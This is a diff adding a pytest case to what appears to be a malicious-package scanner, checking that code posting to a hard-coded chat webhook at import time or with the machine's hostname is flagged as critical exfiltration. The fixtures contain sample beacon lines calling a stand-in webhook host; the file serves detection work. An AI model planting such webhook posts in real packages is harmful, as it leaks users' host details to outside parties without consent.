@@ -241,3 +241,13 @@ def test_eval_fetched_by_evaluating_its_spelled_out_name_is_an_obfuscator_s_load
     rules = _rules("pkg/__init__.py", source)
     assert ("obfuscated-code", "high", 1) in rules and ("dynamic-code-execution", "critical", 3) in rules
     assert not _rules("pkg/calc.py", 'def calc(expr):\n    return eval(expr, {"__builtins__": {}})\n')
+
+
+def test_a_post_to_a_hard_coded_chat_webhook_at_load_time_or_with_the_host_s_identity_is_critical() -> None:
+    hook = '"https://discord.invalid/api/webhooks/123/abc"'
+    at_load = f"import requests\nrequests.post({hook}, json={{'content': 'installed'}})\n"
+    assert ("webhook-exfiltration", "critical", 2) in _rules("pkg/__init__.py", at_load)
+    identity = f"import requests, socket\ndef hi():\n    requests.post({hook}, json={{'h': socket.gethostname()}})\n"
+    assert ("webhook-exfiltration", "critical", 3) in _rules("pkg/cli.py", identity)
+    report = f"import requests\ndef report(msg):\n    requests.post({hook}, json={{'content': msg}})\n"
+    assert ("webhook-exfiltration", "medium", 3) in _rules("pkg/cli.py", report)
